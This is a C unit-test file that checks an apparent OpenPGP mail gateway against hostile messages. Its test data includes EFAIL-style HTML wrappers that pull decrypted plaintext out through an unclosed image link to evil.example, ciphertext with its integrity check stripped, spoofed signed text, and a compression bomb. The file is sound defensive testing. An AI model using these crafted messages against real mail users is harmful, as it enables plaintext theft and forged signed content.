/* Armour inside of text, and messages made to fool a gateway or its reader. */
#include <ftw.h>
#include <stdio.h>
#include <string.h>

#include "mail/mime.h"
#include "mail/verdict.h"
#include "mail/write.h"
#include "openpgp/armor.h"
#include "t/unit/filterd/harness.h"

Suite *hostile_suite(void);

#define HEAD "From: bob@partner.example\r\nTo: alice@our.example\r\nSubject: x\r\n"
#define SECRET "the secret words\n"

static const enum who to_alice[] = {ALICE, NOBODY};
static const enum who to_carol[] = {CAROL, NOBODY};

static void
put_piece(struct buf *out, char c)
{
	static const char with_boundary[] = SECRET "--q\nContent-Type: text/html\n\n<b>";
	static const char *const plain[] = {
	    NULL, SECRET, with_boundary, SECRET, SECRET, NULL, NULL, NULL, NULL};
	struct buf a;
	size_t i;

	buf_init(&a, 1 << 20);
	if (c == 7 || c == 8) {
		static const char begin[] = "-----BEGIN PGP SIGNATURE-----\r\n";
		const uint8_t *p;

		clear_signed(&a, "signed words", "signed words", BOB);
		p = memmem(buf_ptr(&a), buf_len(&a), begin, strlen(begin));
		i = (size_t)(p - buf_ptr(&a)) + strlen(begin);
		buf_put(out, buf_ptr(&a), i);
		buf_puts(out, c == 7 ? "Comment: and pay 5 EUR\r\n" : "Version: 1\r\n");
		buf_drain(&a, i);
	} else if (c == 5)
		clear_signed(&a, "signed words", "signed words", BOB);
	else if (c == 6)
		clear_signed(&a, "- 5 EUR", "- 5 EUR", BOB);
	else
		encrypted(&a, c == 3 ? to_carol : to_alice, c == 1 ? BOB : NOBODY, plain[(int)c],
		    strlen(plain[(int)c]), NULL);
	for (i = 0; c == 4 && i < buf_len(&a); i++)
		if (i == buf_len(&a) / 2)
			a.data[a.off + i] ^= 1; /* still of the alphabet, nearly always */
	if (c == 6) {
		uint8_t *p = memmem(a.data + a.off, buf_len(&a), "5 EUR", 5);

		*p = '9';
	}
	buf_put(out, buf_ptr(&a), buf_len(&a));
	buf_free(&a);
}

/*
 * A message of a template, in which \1 is armour to alice signed by bob, \2 one with a boundary
 * in its text, \3 one to carol, \4 a damaged one, \5 a clear-signed text of bob, \6 an altered one,
 * \7 one whose signature has a comment, \10 one whose signature names a program.
 */
static void
fill(struct buf *out, const char *t)
{
	buf_init(out, 1 << 20);
	for (; *t != '\0'; t++)
		if (*t >= 1 && *t <= 8)
			put_piece(out, *t);
		else
			buf_putc(out, (uint8_t)*t);
}

#define MIXED HEAD "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n"
#define TEXT "Content-Type: text/plain\r\n\r\n"
#define HTML "Content-Type: text/html\r\n\r\n"
#define PGP_HTML HTML "<img src=\"http://evil.example/\r\n"

static const struct {
	const char *template, *want; /* NULL: unchanged */
	const char *holds;
	unsigned parts;
	int lacks_secret;
} inlines[] = {
    {HEAD "\r\n\1", "yes good", "the secret words", 1, 0},
    {HEAD "Content-Type: text/plain; charset=iso-8859-1\r\n\r\n\r\n\1\r\n \r\n", "yes good",
	"charset=utf-8", 1, 0},
    {HEAD "\r\nHello,\r\n\1Bye\r\n", "partly partly-good", "Hello,\r\nthe secret words", 1, 0},
    {HEAD "\r\n\1\r\n\1", "partly partly-good", "the secret words", 1, 0},
    {HEAD "\r\n\1\r\n\3", "partly partly-good", "BEGIN PGP MESSAGE", 1, 0},
    {HEAD "\r\n\1\r\n\4", "partly partly-good", "BEGIN PGP MESSAGE", 1, 0},
    {HEAD "\r\n\3", NULL, NULL, 0, 0},
    {HEAD "\r\n\4", "failed none", "BEGIN PGP MESSAGE", 1, 1},
    {HEAD "\r\n\5", "no good", "BEGIN PGP SIGNED MESSAGE", 1, 1},
    {HEAD "\r\n\6", "no bad", "9 EUR", 1, 1},
    /* What is shown must be what was signed. */
    {HEAD "\r\n\7", "no partly-good", "and pay 5 EUR", 1, 1},
    {HEAD "\r\n\10", "no good", "signed words", 1, 1},
    {HEAD "Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n\5", "no partly-good",
	"signed words", 1, 1},
    {HEAD "\r\npay me 1,000\r\n\5", "no partly-good", "signed words", 1, 1},
    {HEAD "\r\n\5\r\npay me 1,000\r\n", "no partly-good", "signed words", 1, 1},
    {HEAD "\r\n\5\r\n\6", "no bad", "signed words", 1, 1},
    {MIXED "--q\r\n" TEXT "\1\r\n--q\r\n" TEXT "more\r\n--q--\r\n", "partly partly-good",
	"the secret words", 3, 0},
    /* Plaintext cannot become parts of its own. */
    {MIXED "--q\r\n" TEXT "\2\r\n--q--\r\n", "partly none", "the secret words", 2, 0},
    {MIXED "--q\r\n" TEXT "\2\r\n--q\r\n" HTML "x\r\n--q--\r\n", "partly none", "the secret words",
	3, 0},
    /* Markup around it neither gets at it nor changes. */
    {MIXED "--q\r\n" PGP_HTML "--q\r\n" TEXT "\2\r\n--q\r\n" HTML "\">\r\n--q--\r\n", "partly none",
	"http://evil.example/\r\n--q\r\nContent-Type: text/plain", 4, 0},
    /* What a part is for us must not stand in the middle of it for others. */
    {HEAD "Content-Type: multipart/mixed; boundary=q\r\n" PGP_HTML "--q\r\n" TEXT "\1\r\n--q--\r\n",
	NULL, NULL, 0, 0},
    {HEAD "X: y\rContent-Type: text/html\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n"
	  "--q\r\n" TEXT "\1\r\n--q--\r\n",
	NULL, NULL, 0, 0},
    {HEAD "Content-Type: multipart/mixed; boundary=q; boundary=p\r\n\r\n--p\r\n" PGP_HTML
	  "--q\r\n" TEXT "\1\r\n--q--\r\n",
	NULL, NULL, 0, 0},
    {MIXED "--q\r\n" PGP_HTML "--q x\r\n" TEXT "\1\r\n--q--\r\n", NULL, NULL, 0, 0},
    {MIXED "--q\r\n" PGP_HTML "--qq\r\n" TEXT "\1\r\n--q--\r\n", NULL, NULL, 0, 0},
    {MIXED "--q\r\n" HTML "<img src=\"http://evil.example/\n--q\r\n" TEXT "\1\r\n--q--\r\n", NULL,
	NULL, 0, 0},
    {MIXED "--q\r\nContent-Type: multipart/mixed; boundary=i\r\n" PGP_HTML "--i\r\n" TEXT
	   "\1\r\n--i--\r\n--q--\r\n",
	NULL, NULL, 0, 0},
    {HEAD HTML "<img src=\"http://evil.example/\r\n\1\r\n\">\r\n", NULL, NULL, 0, 0},
    {HEAD "Content-Type: text/html\r\n\r\n\1", NULL, NULL, 0, 0},
    /* PGP/MIME inside of a multipart is not opened in place. */
    {MIXED "--q\r\n" PGP_HTML "--q\r\nContent-Type: multipart/encrypted; boundary=i\r\n\r\n"
	   "--i\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--i\r\n"
	   "Content-Type: application/octet-stream\r\n\r\n\1\r\n--i--\r\n--q--\r\n",
	NULL, NULL, 0, 0},
    {HEAD "Content-Type: message/rfc822\r\n\r\n" HEAD "\r\n\1", NULL, NULL, 0, 0},
};

START_TEST(opens_armour_in_text)
{
	struct outcome o, again;
	struct mail_index ix;
	struct octets in;
	struct buf m;

	harness_reset();
	fill(&m, inlines[_i].template);
	open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
	if (inlines[_i].want == NULL) {
		ck_assert_int_eq(o.result, OPEN_UNCHANGED);
	} else {
		ck_assert_msg(o.result == OPEN_VIRTUAL, "%d %s", o.result, o.text);
		ck_assert_str_eq(verdict(&o.octets), inlines[_i].want);
		ck_holds(&o.octets, inlines[_i].holds);
		if (inlines[_i].lacks_secret)
			ck_lacks(&o.octets, "secret");
		in = octets_mem(buf_ptr(&o.octets), buf_len(&o.octets));
		ck_assert_int_eq(mail_index_make(&ix, &in), 0);
		ck_assert_uint_eq(ix.n, inlines[_i].parts);
		mail_index_free(&ix);
		open_as(&again, ALICE, buf_ptr(&m), buf_len(&m));
		ck_assert_uint_eq(buf_len(&o.octets), buf_len(&again.octets));
		ck_assert_mem_eq(
		    buf_ptr(&o.octets), buf_ptr(&again.octets), buf_len(&again.octets));
		outcome_free(&again);
	}
	outcome_free(&o);
	buf_free(&m);
}
END_TEST

START_TEST(opens_armour_in_encoded_text)
{
	static const char *const how[] = {"base64", "quoted-printable"};
	struct mail_filter f;
	struct outcome o;
	struct buf a, m;
	struct sink to;
	unsigned i;

	for (i = 0; i < 2; i++) {
		harness_reset();
		fill(&a, "\1");
		buf_init(&m, 1 << 20);
		buf_printf(&m,
		    HEAD "Content-Type: text/plain\r\nContent-Transfer-Encoding: %s\r\n\r\n",
		    how[i]);
		to = sink_buf(&m);
		mail_filter_init(&f, i == 0 ? MAIL_B64_ENCODE : MAIL_QP_ENCODE, &to);
		ck_assert_int_eq(mail_filter_write(&f, buf_ptr(&a), buf_len(&a)), 0);
		ck_assert_int_eq(mail_filter_end(&f), 0);
		open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
		ck_assert_int_eq(o.result, OPEN_VIRTUAL);
		ck_assert_str_eq(verdict(&o.octets), "yes good");
		ck_holds(&o.octets, "the secret words\r\n");
		outcome_free(&o);
		buf_free(&a);
		buf_free(&m);
	}
}
END_TEST

START_TEST(defers_armour_that_it_could_open_later)
{
	struct outcome o;
	struct buf m;

	fill(&m, HEAD "\r\nHello\r\n\1");
	harness_reset();
	world.crypto = CRYPTO_LOCKED;
	open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
	ck_assert_int_eq(o.result, OPEN_DEFER);
	outcome_free(&o);
	harness_reset();
	world.opening = OPENING_DEFER;
	open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
	ck_assert_int_eq(o.result, OPEN_DEFER);
	outcome_free(&o);
	buf_free(&m);
}
END_TEST

START_TEST(bounds_the_blocks_of_one_message)
{
	struct outcome o;
	struct buf a, m;
	unsigned i;

	harness_reset();
	fill(&a, "\1");
	buf_init(&m, 1 << 20);
	buf_puts(&m, HEAD "\r\n");
	for (i = 0; i < 200; i++)
		buf_put(&m, buf_ptr(&a), buf_len(&a));
	open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
	ck_assert_int_eq(o.result, OPEN_VIRTUAL);
	ck_assert_str_eq(verdict(&o.octets), "partly partly-good");
	ck_assert_uint_eq(world.unwraps, 64);
	outcome_free(&o);
	buf_free(&a);
	buf_free(&m);
}
END_TEST

/* PGP/MIME around binary packets. */
static void
around(struct buf *m, const uint8_t *p, size_t n)
{
	struct mail_filter f;
	struct buf a;
	struct sink to;

	buf_init(&a, 1 << 24);
	to = sink_buf(&a);
	mail_filter_init(&f, MAIL_B64_ENCODE, &to);
	ck_assert_int_eq(mail_filter_write(&f, p, n), 0);
	ck_assert_int_eq(mail_filter_end(&f), 0);
	buf_init(m, 1 << 24);
	buf_puts(m, HEAD "Content-Type: multipart/encrypted; boundary=xx\r\n\r\n--xx\r\n"
			 "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--xx\r\n"
			 "Content-Type: application/octet-stream\r\n"
			 "Content-Transfer-Encoding: base64\r\n\r\n");
	buf_put(m, buf_ptr(&a), buf_len(&a));
	buf_puts(m, "\r\n--xx--\r\n");
	buf_free(&a);
}

static void
packets(struct buf *out, const void *text, size_t n, unsigned compress)
{
	struct pgp_encrypt_params p = {.compress = (uint8_t)compress};

	buf_init(out, 1 << 24);
	encrypted(out, to_alice, BOB, text, n, &p);
}

/* Damaged for good: what is stored and a verdict; or nothing of ours at all. */
static void
fails(const uint8_t *p, size_t n, const char *what)
{
	struct outcome o;
	struct buf m;

	around(&m, p, n);
	open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
	ck_assert_int_eq(o.answered, 1);
	ck_assert_msg(o.result != OPEN_DEFER, "%s: %s", what, o.text);
	if (o.result == OPEN_VIRTUAL) {
		ck_assert_msg(strcmp(verdict(&o.octets), "failed none") == 0 ||
				  strcmp(verdict(&o.octets), "no-mdc none") == 0 ||
				  strcmp(verdict(&o.octets), "no none") == 0,
		    "%s: %s", what, verdict(&o.octets));
		ck_lacks(&o.octets, "secret");
		ck_lacks(&o.octets, "Signer");
		ck_holds(&o.octets, "multipart/encrypted");
		ck_assert_uint_eq(buf_len(&o.octets), buf_len(&m) + MAIL_VERDICT_LEN);
		ck_assert_mem_eq(buf_ptr(&o.octets) + MAIL_VERDICT_LEN, buf_ptr(&m), buf_len(&m));
	}
	outcome_free(&o);
	buf_free(&m);
}

START_TEST(shows_nothing_of_altered_ciphertext)
{
	static const char text[] = "Content-Type: text/plain\r\n\r\n" SECRET;
	char what[64];
	struct buf p;
	size_t i;

	harness_reset();
	packets(&p, text, sizeof text - 1, 0);
	for (i = 0; i < buf_len(&p); i += 1 + i / 24) {
		(void)snprintf(what, sizeof what, "octet %zu", i);
		p.data[p.off + i] ^= 0x10;
		fails(buf_ptr(&p), buf_len(&p), what);
		p.data[p.off + i] ^= 0x10;
	}
	for (i = 0; i < buf_len(&p); i += 1 + i / 8) {
		(void)snprintf(what, sizeof what, "cut at %zu", i);
		fails(buf_ptr(&p), i, what);
	}
	buf_free(&p);
}
END_TEST

START_TEST(refuses_encryption_without_integrity)
{
	static const char text[] = "Content-Type: text/plain\r\n\r\n" SECRET;
	struct outcome o;
	struct buf p, m, a;
	struct pgp_armor armor;
	struct sink to;
	uint8_t *data;

	harness_reset();
	packets(&p, text, sizeof text - 1, 0);
	data = p.data + p.off + 2 + p.data[p.off + 1];
	ck_assert_int_eq(*data, 0xd2);
	*data = 0xc9;
	around(&m, buf_ptr(&p), buf_len(&p));
	open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
	ck_assert_int_eq(o.result, OPEN_VIRTUAL);
	ck_assert_str_eq(verdict(&o.octets), "no-mdc none");
	ck_lacks(&o.octets, "secret");
	ck_assert_uint_eq(buf_len(&o.octets), buf_len(&m) + MAIL_VERDICT_LEN);
	outcome_free(&o);
	/* The same as armour in a text. */
	buf_reset(&m);
	buf_init(&a, 1 << 20);
	to = sink_buf(&a);
	ck_assert_int_eq(pgp_armor_open(&armor, PGP_ARMOR_MESSAGE, &to), 0);
	ck_assert_int_eq(pgp_armor_write(&armor, buf_ptr(&p), buf_len(&p)), 0);
	ck_assert_int_eq(pgp_armor_close(&armor), 0);
	buf_printf(&m, HEAD "\r\n%.*s", (int)buf_len(&a), buf_ptr(&a));
	open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
	ck_assert_int_eq(o.result, OPEN_VIRTUAL);
	ck_assert_str_eq(verdict(&o.octets), "no-mdc none");
	outcome_free(&o);
	buf_free(&a);
	buf_free(&p);
	buf_free(&m);
}
END_TEST

START_TEST(false_session_key_is_damage)
{
	struct buf p;

	harness_reset();
	world.false_key = 1;
	packets(&p, SECRET, strlen(SECRET), 0);
	fails(buf_ptr(&p), buf_len(&p), "false key");
	buf_free(&p);
}
END_TEST

START_TEST(bounds_what_a_message_expands_to)
{
	size_t n = (size_t)72 << 20;
	char *zeros = calloc(1, n);
	struct buf p;

	ck_assert_ptr_nonnull(zeros);
	harness_reset();
	packets(&p, zeros, n, 2);
	ck_assert_uint_lt(buf_len(&p), n / 200);
	fails(buf_ptr(&p), buf_len(&p), "bomb");
	buf_free(&p);
	free(zeros);
}
END_TEST

START_TEST(blocks_of_one_message_share_the_bound)
{
	static const struct pgp_encrypt_params zlib = {.armor = true, .compress = 2};
	size_t n = (size_t)40 << 20;
	char *text = malloc(n);
	struct outcome o;
	struct buf m;
	unsigned i;

	ck_assert_ptr_nonnull(text);
	memset(text, 'a', n);
	harness_reset();
	buf_init(&m, 1 << 24);
	buf_puts(&m, HEAD "\r\n");
	for (i = 0; i < 3; i++)
		encrypted(&m, to_alice, NOBODY, text, n, &zlib);
	open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
	ck_assert_msg(o.result == OPEN_VIRTUAL, "%s", o.text);
	ck_assert_str_eq(verdict(&o.octets), "partly none");
	ck_assert_uint_gt(buf_len(&o.octets), n);
	ck_assert_uint_lt(buf_len(&o.octets), n + n / 2);
	outcome_free(&o);
	buf_free(&m);
	free(text);
}
END_TEST

START_TEST(label_over_clear_text_is_no_decryption)
{
	static const uint8_t literal[] = "\xcb\x0e"
					 "b\0\0\0\0\0not here";
	struct outcome o;
	struct buf m;

	harness_reset();
	around(&m, literal, sizeof literal - 1);
	open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
	ck_assert_int_eq(o.result, OPEN_VIRTUAL);
	ck_assert_str_eq(verdict(&o.octets), "no none");
	outcome_free(&o);
	buf_free(&m);
	fails((const uint8_t *)"what is this?", 13, "text");
	fails((const uint8_t *)"", 0, "nothing");
}
END_TEST

START_TEST(every_message_gets_one_answer)
{
	static const char *const odd[] = {
	    "From: a@b\r\nContent-Type: multipart/signed; boundary=\r\n\r\n",
	    "From: a@b\r\nContent-Type: multipart/signed; boundary=y\r\n\r\n--y\r\n--y\r\n"
	    "Content-Type: application/pgp-signature\r\n\r\n--y--\r\n",
	    "From: a@b\r\nContent-Type: multipart/signed; boundary=y\r\n\r\n--y\r\n\r\nx\r\n--y\r\n"
	    "Content-Type: application/pgp-signature\r\n\r\nno signature\r\n--y--\r\n",
	    "From: a@b\r\nContent-Type: multipart/encrypted; boundary=y\r\n\r\n--y\r\n"
	    "Content-Type: application/pgp-encrypted\r\n\r\n--y--\r\n",
	    "\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\n-----END PGP MESSAGE-----\r\n",
	    "\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\n-----BEGIN PGP SIGNATURE-----\r\n"
	    "-----END PGP SIGNATURE-----\r\n",
	};
	static const char *const rcpts[] = {"bob@partner.example", "x", NULL};
	struct outcome o;
	size_t i;

	for (i = 0; i < sizeof odd / sizeof odd[0]; i++) {
		harness_reset();
		open_as(&o, ALICE, odd[i], strlen(odd[i]));
		ck_assert_int_eq(o.answered, 1);
		ck_assert_int_ne(o.result, OPEN_DEFER);
		outcome_free(&o);
		harness_reset();
		secure(&o, "alice@our.example", rcpts, odd[i], strlen(odd[i]), 0);
		ck_assert_int_eq(o.answered, 1);
		ck_assert_int_eq(o.result, SECURE_OK);
		outcome_free(&o);
	}
}
END_TEST

START_TEST(long_lines_are_no_passing_failure)
{
	static const char *const begin[] = {"-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\n",
	    "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: ", "-----BEGIN PGP MESSAGE-----\r\n\r\n",
	    "-----BEGIN PGP MESSAGE-----\r\nComment: "};
	struct outcome o;
	struct buf m;
	unsigned i, k;

	for (i = 0; i < 4; i++) {
		harness_reset();
		buf_init(&m, 1 << 24);
		buf_printf(&m, HEAD "\r\n%s", begin[i]);
		for (k = 0; k < 300000; k++)
			buf_putc(&m, 'x');
		buf_printf(&m, "\r\n%s-----END PGP %s-----\r\n",
		    i < 2 ? "-----BEGIN PGP SIGNATURE-----\r\n\r\nwnUE\r\n" : "",
		    i < 2 ? "SIGNATURE" : "MESSAGE");
		open_as(&o, ALICE, buf_ptr(&m), buf_len(&m));
		ck_assert_msg(o.result != OPEN_DEFER, "%u: %s", i, o.text);
		outcome_free(&o);
		buf_free(&m);
	}
}
END_TEST

static unsigned files;

/* One file of the corpus, both ways. */
static int
both_ways(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
	static const char *const rcpts[] = {"bob@partner.example", "x@y.example", NULL};
	static uint8_t data[256 * 1024];
	struct outcome o;
	size_t n;
	FILE *f;

	(void)ftw;
	if (type != FTW_F || (size_t)st->st_size > sizeof data || strstr(path, "pkits") != NULL ||
	    files++ % 8 != 0)
		return 0;
	ck_assert_ptr_nonnull(f = fopen(path, "r"));
	n = fread(data, 1, sizeof data, f);
	fclose(f);
	harness_reset();
	open_as(&o, ALICE, data, n);
	ck_assert_msg(o.answered == 1 && o.result != OPEN_DEFER, "%s: %s", path, o.text);
	outcome_free(&o);
	harness_reset();
	secure(&o, "alice@our.example", rcpts, data, n, 0);
	ck_assert_msg(o.answered == 1 && o.result != SECURE_DEFER, "%s: %s", path, o.text);
	outcome_free(&o);
	return 0;
}

START_TEST(every_message_of_the_corpus_gets_an_answer)
{
	const char *dir = getenv("POSTERN_CORPUS");

	if (nftw(dir != NULL ? dir : "../shared/corpus", both_ways, 16, FTW_PHYS) == -1 ||
	    files == 0)
		printf("# skipped: no corpus (POSTERN_CORPUS)\n");
}
END_TEST

Suite *
hostile_suite(void)
{
	Suite *s = suite_create("hostile");
	TCase *c = tcase_create("hostile");

	tcase_set_timeout(c, 120);
	tcase_add_loop_test(c, opens_armour_in_text, 0, sizeof inlines / sizeof inlines[0]);
	tcase_add_test(c, opens_armour_in_encoded_text);
	tcase_add_test(c, defers_armour_that_it_could_open_later);
	tcase_add_test(c, bounds_the_blocks_of_one_message);
	tcase_add_test(c, shows_nothing_of_altered_ciphertext);
	tcase_add_test(c, refuses_encryption_without_integrity);
	tcase_add_test(c, false_session_key_is_damage);
	tcase_add_test(c, bounds_what_a_message_expands_to);
	tcase_add_test(c, blocks_of_one_message_share_the_bound);
	tcase_add_test(c, label_over_clear_text_is_no_decryption);
	tcase_add_test(c, every_message_gets_one_answer);
	tcase_add_test(c, long_lines_are_no_passing_failure);
	tcase_add_test(c, every_message_of_the_corpus_gets_an_answer);
	suite_add_tcase(s, c);
	return s;
}
